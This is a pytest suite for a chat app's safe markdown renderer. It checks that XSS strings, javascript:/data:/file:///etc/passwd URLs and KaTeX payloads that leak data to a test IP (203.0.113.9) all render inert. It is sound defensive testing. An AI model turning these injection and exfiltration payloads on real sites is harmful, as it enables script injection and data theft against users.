"""safe_markdown / live_markdown: what can be checked without a browser.

* the compiled component: no rehype-raw anywhere, the URL policy wired as react-markdown's
  urlTransform and into the link renderer, images never rendered as <img>, code blocks with a
  copy button, and the live component using the very same component map;
* the URL policy itself (SAFE_URL_JS) and the client store (STORE_JS), run under node when it is
  installed (skipped otherwise; the real-Chromium checks are in docs/notes/live-streaming.md);
* the KaTeX options (KATEX_OPTIONS_JS) run under node with the frontend's own katex: every
  command KaTeX's `trust` gates shows its text, with no link, URL, attribute or red error (the
  real-Chromium check is tests/browser/test_xss_corpus.py);
* live_append/live_reset/live_clear: every value JSON-encoded, so hostile text cannot leave its
  string literal (``</script>``, quotes, backticks, ``${}``, U+2028/U+2029, lone surrogates,
  ``<reflex.Var>`` tags), and the text survives the round trip exactly.
"""

from __future__ import annotations

import html as html_lib
import json
import re
import shutil
import subprocess
import textwrap
from pathlib import Path
from typing import Any

import pytest
import reflex as rx

from chat_app.components import live_markdown as lm
from chat_app.components import markdown as md
from tests.conftest import IN_CI

NODE = shutil.which("node")
needs_node = pytest.mark.skipif(NODE is None, reason="node is not installed")

HOSTILE_TEXTS = [
    "plain",
    "",
    "</script><script>alert(1)</script>",
    '"); alert(1); ("',
    "'); alert(1); ('",
    "`${alert(1)}` and ${window.x}",
    "back\\slash \\\\ \\u2028 \\x00",
    "line\u2028separator\u2029paragraph",
    "nul\x00 bell\x07 esc\x1b del\x7f \r\n\t",
    "emoji 🚀✨ and combining é and CJK 中文",
    "lone surrogate \ud800 here \udfff",
    "<reflex.Var>{}</reflex.Var> <!-- comment -->",
    "*/ //",
]


def _code_of(spec) -> str:
    """The javascript_code an EventSpec carries, decoded the way Reflex's server sends it."""
    return {k._js_expr: v._decode() for k, v in spec.args}["javascript_code"]


def _render_all(component: rx.Component) -> str:
    """The component's JSX plus all the module-level code it brings."""
    return "\n".join([str(component), *component._get_all_custom_code()])


class _S(rx.State):
    text: str = ""
    reply_id: str = ""

    @rx.event
    def resync(self, reply_id: str):
        return lm.live_reset(reply_id, self.text)


# --------------------------------------------------------------------------------------------
# The compiled markdown component
# --------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "component",
    [
        md.safe_markdown("hello <b>x</b>"),
        md.safe_markdown(_S.text, class_name="chat-markdown", width="100%"),
        md.safe_markdown(_S.text, use_math=False),
    ],
    ids=["literal", "state-var", "no-math"],
)
def test_safe_markdown_has_no_raw_html_plugin(component):
    code = _render_all(component)
    imports = component._get_all_imports()
    assert not [lib for lib in imports if "rehype-raw" in lib]
    assert "rehypeRaw" not in code
    assert "rehype-raw" not in code
    assert "remarkGfm" in code  # tables, task lists, autolinks stay on


def test_safe_markdown_wires_the_url_policy():
    component = md.safe_markdown(_S.text)
    code = _render_all(component)
    assert "urlTransform:__chatSafeUrl" in code
    assert md.SAFE_URL_JS in code  # the function is defined in the module
    # The link renderer recomputes href and fixes target/rel; react-markdown's own href,
    # target and rel are removed from the props it spreads.
    link = re.search(r'\["a"\] : (.*?)\), \["', code)
    assert link, code
    link_code = link.group(1)
    assert "href:(__chatSafeUrl(props.href) || undefined)" in link_code
    assert 'rel:"noopener noreferrer nofollow"' in link_code
    assert "'_blank'" in link_code
    assert "...(({href, target, rel, ...rest}) => rest)(props)" in link_code
    assert "...props" not in link_code.split("=>", 1)[1]
    assert "ReactRouterLink" not in link_code  # the router would rewrite relative URLs


def test_images_are_text_and_never_img_elements():
    code = _render_all(md.safe_markdown(_S.text))
    image = re.search(r'\["img"\] : (.*?)\), \["', code)
    assert image, code
    image_code = image.group(1)
    assert 'jsx("span"' in image_code
    assert "img" not in image_code.replace('["img"]', "")
    assert "...props" not in image_code.split("=>", 1)[1]  # no src/srcSet reaches the element
    assert 'jsx("img"' not in code


def test_code_blocks_are_highlighted_with_a_copy_button():
    code = _render_all(md.safe_markdown(_S.text))
    pre = code[code.index('["pre"]') :]
    assert "SyntaxHighlighter" in pre
    assert "language:_language" in pre  # from the fence's `language-xxx` class
    assert '"aria-label":"Copy code"' in pre
    assert "writeText" in pre
    # inline code keeps the plain Code renderer
    assert '["code"] : (({node, children, ...props}) => (jsx(RadixThemesCode' in code


def test_raw_html_plugin_is_refused():
    with pytest.raises(TypeError):
        md.safe_markdown("x", use_raw=True)
    with pytest.raises(TypeError):
        md.safe_markdown("x", rehype_plugins=[rx.markdown.plugin.raw])
    with pytest.raises(ValueError, match="raw"):
        md.SafeMarkdown.create("x", rehype_plugins=rx.Var.create([rx.markdown.plugin.raw]))


def test_component_map_cannot_replace_the_vetted_renderers():
    custom = md.safe_markdown(
        "x",
        component_map={
            "a": lambda text, **_: rx.el.a(text, href="javascript:alert(1)"),
            "img": lambda *_, **__: rx.el.img(src="http://example.com/x.png"),
        },
    )
    code = _render_all(custom)
    assert "javascript:alert(1)" not in code
    assert "example.com" not in code
    assert "href:(__chatSafeUrl(props.href) || undefined)" in code


# --------------------------------------------------------------------------------------------
# The live component
# --------------------------------------------------------------------------------------------


def _component_map_names(code: str) -> set[str]:
    return set(re.findall(r"ComponentMap_[0-9a-f]+", code))


def test_live_markdown_renders_with_the_same_safe_component():
    body = lm.chat_live_markdown._definition.component
    live_code = _render_all(body)
    safe_code = _render_all(md.safe_markdown_root(_S.text))
    assert "rehypeRaw" not in live_code
    assert "urlTransform:__chatSafeUrl" in live_code
    # the same component map (same hash = same renderers) as safe_markdown
    assert _component_map_names(live_code) == _component_map_names(safe_code)
    assert len(_component_map_names(live_code)) == 1
    assert lm.STORE_JS in live_code
    assert lm.HOOK_JS in live_code
    hooks = "\n".join(body._get_all_hooks())
    assert "useChatLive(" in hooks


def test_live_markdown_creates_with_literals_state_vars_and_gap_handler():
    assert "ChatLiveMarkdown" in str(lm.live_markdown("reply-1"))
    with_gap = lm.live_markdown(_S.reply_id, on_gap=_S.resync)
    code = _render_all(with_gap)
    assert "ChatLiveGap" in code
    assert lm.STORE_JS in code


# --------------------------------------------------------------------------------------------
# The scripts sent by live_append / live_reset / live_clear
# --------------------------------------------------------------------------------------------

_APPEND = re.compile(r"^window\.__chatLive\?\.append\((.*),(\d+),(.*)\)$", re.S)


def _args(reply_id: str, offset: int, text: str) -> tuple[str, int, str]:
    code = lm.live_append_js(reply_id, offset, text)
    match = _APPEND.match(code)
    assert match, code
    # JSON is a subset of JS string syntax: each literal must parse back to exactly the input.
    return json.loads(match.group(1)), int(match.group(2)), json.loads(match.group(3))


@pytest.mark.parametrize("text", HOSTILE_TEXTS)
def test_live_append_encodes_every_value(text):
    assert _args(text, 7, text) == (text, 7, text)
    code = lm.live_append_js(text, 7, text)
    for raw in ("\u2028", "\u2029", "<", "\n", "\r", "\x00"):
        assert raw not in code
    assert not re.search("[\ud800-\udfff]", code)
    code.encode("utf-8")  # sendable: no lone surrogate left


@pytest.mark.parametrize("text", HOSTILE_TEXTS)
def test_event_payload_carries_the_script_unchanged(text):
    spec = lm.live_append("r-1", 0, text)
    assert _code_of(spec) == lm.live_append_js("r-1", 0, text)
    assert {k._js_expr: v._decode() for k, v in spec.args}["callback"] is None
    assert _code_of(lm.live_reset("r-1", text)) == lm.live_reset_js("r-1", text)
    assert _code_of(lm.live_clear(text)) == lm.live_clear_js(text)


@pytest.mark.parametrize("offset", [-1, 1.5, "3", True, None])
def test_live_append_rejects_bad_offsets(offset):
    with pytest.raises(ValueError):
        lm.live_append_js("r", offset, "x")  # type: ignore[arg-type]


def test_js_string_rejects_non_strings():
    with pytest.raises(TypeError):
        lm.js_string(123)  # type: ignore[arg-type]


def _node(script: str) -> Any:
    assert NODE is not None
    result = subprocess.run(
        [NODE, "-e", script], capture_output=True, text=True, timeout=30, check=False
    )
    assert result.returncode == 0, result.stderr
    # split on "\n" only: str.splitlines() would also split on U+2028/U+2029 inside the JSON.
    return json.loads(result.stdout.strip().split("\n")[-1])


URL_CASES = {
    # refused
    "javascript:alert(1)": "",
    "JaVaScRiPt:alert(1)": "",
    " javascript:alert(1)": "",
    "\tjavascript:alert(1)": "",
    "java\tscript:alert(1)": "",
    "java\nscript:alert(1)": "",
    "\x01javascript:alert(1)": "",
    # Undecoded entities (the markdown parser decodes them before this point): '&' and '#' are
    # not scheme characters, so a browser resolves these as harmless relative URLs too.
    "javascript&colon;alert(1)": "javascript&colon;alert(1)",
    "jav&#x09;ascript:alert(1)": "jav&#x09;ascript:alert(1)",
    "data:text/html,<script>alert(1)</script>": "",
    "DATA:image/png;base64,AAAA": "",
    "vbscript:msgbox(1)": "",
    "file:///etc/passwd": "",
    "blob:http://x/y": "",
    "ftp://example.com": "",
    "irc://example.com": "",
    # allowed
    "https://example.com/a?b=1#c": "https://example.com/a?b=1#c",
    "HTTP://EXAMPLE.COM": "HTTP://EXAMPLE.COM",
    "mailto:a@example.com": "mailto:a@example.com",
    "/chat/1": "/chat/1",
    "#user-content-fn-1": "#user-content-fn-1",
    "?q=1": "?q=1",
    "foo/bar:baz": "foo/bar:baz",
    "relative.html": "relative.html",
    "  https://example.com  ": "https://example.com",
    "": "",
}


@needs_node
def test_url_policy_in_js():
    script = (
        f"const f = {md.SAFE_URL_JS};"
        f"const cases = {json.dumps(list(URL_CASES))};"
        "console.log(JSON.stringify(cases.map(f)));"
    )
    assert dict(zip(URL_CASES, _node(script), strict=True)) == URL_CASES


def _store_script(body: str) -> str:
    return (
        "globalThis.window = globalThis;\n"
        + lm.STORE_JS
        + "\nconst S = window.__chatLive;\n"
        + textwrap.dedent(body)
    )


@needs_node
def test_store_round_trips_hostile_text_through_the_generated_scripts():
    # Evaluate exactly the code live_append / live_reset send, the way Reflex's frontend does.
    offset = 0
    calls = []
    for text in HOSTILE_TEXTS:
        calls.append(lm.live_append_js("reply-1", offset, text))
        offset += len(text)
    calls.append(lm.live_reset_js("reply-2", "".join(HOSTILE_TEXTS)))
    body = f"""
        const results = {json.dumps(calls)}.map((code) => eval(code));
        const a = S.get("reply-1"), b = S.get("reply-2");
        console.log(JSON.stringify([results, a.text, a.len, a.stale, b.text, b.len]));
    """
    out = _node(_store_script(body))
    assert isinstance(out, list)
    results, text1, len1, stale1, text2, len2 = out
    expected = "".join(HOSTILE_TEXTS)
    # JSON cannot carry lone surrogates through node's stdout: compare their escaped forms.
    expected_escaped = json.loads(json.dumps(expected))
    assert results[: len(HOSTILE_TEXTS)] == [1] * len(HOSTILE_TEXTS)
    assert text1 == expected_escaped
    assert text2 == expected_escaped
    assert len1 == len2 == len(expected)  # code points, like Python's len()
    assert stale1 is False


@needs_node
def test_store_duplicates_gaps_reset_clear_and_notifications():
    body = """
        const out = [];
        let calls = 0;
        const unsub = S.subscribe("r", () => { calls++; });
        out.push(S.append("r", 0, "a🚀"));      // 1 appended (2 code points)
        out.push(S.append("r", 0, "a🚀"));      // 0 duplicate
        out.push(S.append("r", 1, "🚀"));       // 0 duplicate (offset inside)
        out.push(S.append("r", 2, "b"));        // 1 appended
        out.push(S.get("r").text, S.get("r").len, S.get("r").stale);
        out.push(S.append("r", 10, "zz"));      // -1 gap: dropped, marked stale
        out.push(S.get("r").text, S.get("r").stale);
        out.push(S.append("r", 3, "c"));        // still appends at the exact end
        out.push(S.get("r").text, S.get("r").stale);
        S.reset("r", "fresh 🚀");
        out.push(S.get("r").text, S.get("r").len, S.get("r").stale);
        out.push(S.append("r", "7", "x"));       // offset must be a number: ignored
        out.push(S.append("r", NaN, "x"));
        S.clear("r");
        out.push(S.get("r").text, S.get("r").len);
        setTimeout(() => {
          out.push(calls);                       // notifications coalesced into one
          unsub();
          S.append("other", 0, "x");
          setTimeout(() => { out.push(calls); console.log(JSON.stringify(out)); }, 5);
        }, 5);
    """
    out = _node(_store_script(body))
    assert out == [
        1, 0, 0, 1,
        "a🚀b", 3, False,
        -1, "a🚀b", True,
        1, "a🚀bc", True,
        "fresh 🚀", 7, False,
        0, 0,
        "", 0,
        1, 1,
    ]  # fmt: skip


@needs_node
def test_store_is_created_once():
    body = f"""
        const first = window.__chatLive;
        eval({json.dumps(lm.STORE_JS)});
        console.log(JSON.stringify(first === window.__chatLive));
    """
    assert _node(_store_script(body)) is True


# --------------------------------------------------------------------------------------------
# KaTeX: the commands `trust` gates render as inert text (KATEX_OPTIONS_JS)
# --------------------------------------------------------------------------------------------

# The KaTeX the built frontend uses (rehype-katex's dependency). Marked `after_build`, these run
# after the browser suite has built .web (tests/conftest.py orders them); on a checkout that was
# never built they are skipped locally and fail under CI.
_WEB_KATEX = Path(__file__).resolve().parents[2] / ".web" / "node_modules" / "katex"
KATEX_JS = _WEB_KATEX / "dist" / "katex.js"


@pytest.fixture
def built_katex() -> Path:
    if NODE is None or not KATEX_JS.exists():
        message = "node or the built frontend's katex (.web/node_modules) is missing"
        if IN_CI:
            pytest.fail(message)
        pytest.skip(message)
    return KATEX_JS


def needs_katex(test: Any) -> Any:
    return pytest.mark.after_build(pytest.mark.usefixtures("built_katex")(test))


EXFIL = "http://203.0.113.9/leak.png?q=secret"
# (TeX, text the reader must see). Every command that KaTeX's `trust` option gates, with hostile
# and awkward arguments (schemes, %, ~, #, _, &, ^, braces, backslashes, quotes), in math and text
# mode, nested, and spaced the ways TeX allows.
KATEX_CASES: list[tuple[str, str]] = [
    (r"\href{javascript:alert(1)}{click me}", "clickme"),
    (rf"\href{{{EXFIL}}}{{leak}}", "leak"),
    (r"\href{https://example.com/a%20b#frag_x~y&z=1}{t_1 + x^2}", "t1+x2"),
    (r"\href {https://example.com} {spaced}", "spaced"),
    (r"\href{a}{\href{b}{inner}}", "inner"),
    (r"x^{\href{u}{sup}}", "xsup"),
    (r"\text{see \href{https://example.com}{the docs} here}", "seethedocshere"),
    (r"\url{javascript:alert(1)}", "javascript:alert(1)"),
    (rf"\url{{{EXFIL}}}", EXFIL),
    (r"\url{https://e.x/a_b%20c~d#e&f^g{h}\%}", "https://e.x/a_b%20c~d#e&f^g{h}%"),
    (r"\url{a\b}", "a\\b"),
    (r"\text{at \url{https://example.com/x_y}}", "athttps://example.com/x_y"),
    (r'\htmlClass{x" onclick="alert(1)}{class text}', "classtext"),
    (r"\htmlId{evil}{id text}", "idtext"),
    (rf"\htmlStyle{{background:url({EXFIL});width:50%}}{{style text}}", "styletext"),
    (r"\htmlData{onclick=alert(1),x=y}{data text}", "datatext"),
    (r"\htmlData{no-equals-sign}{data text 2}", "datatext2"),
    (rf"\includegraphics{{{EXFIL}}}", "[image]"),
    (rf"\includegraphics[height=1em,alt=a cat_1 & co]{{{EXFIL}}}", "[image:acat_1&co]"),
    (r"\includegraphics [width=2em] {x.png} y", "[image]y"),
]


def _katex(cases: list[str], *, output: str, display: bool = False) -> list[str]:
    script = (
        f"const katex = require({json.dumps(str(KATEX_JS))});"
        f"{md.KATEX_OPTIONS_JS}"
        f"const opts = {md.KATEX_OPTIONS_FN};"
        f"const cases = {json.dumps(cases)};"
        # rehype-katex calls renderToString({...options, displayMode, throwOnError: true}).
        "console.log(JSON.stringify(cases.map((tex) => katex.renderToString(tex, "
        f"{{...opts, output: {json.dumps(output)}, displayMode: {json.dumps(display)},"
        " throwOnError: true}))));"
    )
    return _node(script)


def _reader_text(html: str) -> str:
    text = html_lib.unescape(re.sub(r"<[^>]+>", "", html))
    return re.sub(r"[\s\u200b]+", "", text)


def test_katex_options_are_shared_by_the_final_and_the_live_renderer():
    for component in (md.safe_markdown(_S.text), lm.chat_live_markdown._definition.component):
        code = _render_all(component)
        assert f"rehypePlugins:[[rehypeKatex, {md.KATEX_OPTIONS_FN}]]" in code
        assert md.KATEX_OPTIONS_JS in code
    assert "trust: false" in md.KATEX_OPTIONS_JS
    assert "rehypeKatex" not in _render_all(md.safe_markdown(_S.text, use_math=False))


@needs_katex
@pytest.mark.parametrize("display", [False, True], ids=["inline", "display"])
def test_trust_gated_katex_commands_show_their_text_and_nothing_else(display):
    sources = [tex for tex, _ in KATEX_CASES]
    shown = [_reader_text(h) for h in _katex(sources, output="html", display=display)]
    assert [(tex, s) for (tex, want), s in zip(KATEX_CASES, shown, strict=True) if s != want] == []
    for tex, html in zip(sources, _katex(sources, output="htmlAndMathml"), strict=True):
        # No link or image element; no URL, id, data-, class or style taken from the formula
        # (its arguments may appear as text only); no red error.
        assert not re.search(r"<(a|img|image|use)\b", html), (tex, html)
        attributes = re.findall(r'\s([\w:-]+)="([^"]*)"', html)
        names = {name for name, _ in attributes}
        assert not names & {"href", "src", "id", "xlink:href"}, (tex, names)
        assert not [n for n in names if n.startswith(("data-", "on"))], (tex, names)
        from_formula = ("203.0.113.9", "javascript", "alert", "evil", "url(", "onclick", "50%")
        leaked = [(n, v) for n, v in attributes if any(bad in v for bad in from_formula)]
        assert leaked == [], (tex, leaked)
        assert not re.search(r"katex-error|#cc0000", html), (tex, html)


@needs_katex
def test_one_formulas_gdef_does_not_change_the_next_formula():
    # rehype-katex renders every formula of the page with the same options object.
    script = (
        f"const katex = require({json.dumps(str(KATEX_JS))});"
        f"{md.KATEX_OPTIONS_JS}"
        f"const o = {md.KATEX_OPTIONS_FN};"
        "const r = (tex) => katex.renderToString(tex, {...o, output: 'html', throwOnError: true});"
        r"const first = r('\\gdef\\href#1#2{#1}\\gdef\\mine{M}\\href{hidden}{shown}');"
        r"const second = r('\\href{hidden}{shown}');"
        r"let third; try { r('\\mine'); third = 'leaked'; } catch (e) { third = e.name; }"
        "console.log(JSON.stringify([first, second, third]));"
    )
    first, second, third = _node(script)
    assert "hidden" in _reader_text(first)  # its own redefinition holds inside that formula
    assert _reader_text(second) == "shown"
    assert third == "ParseError"
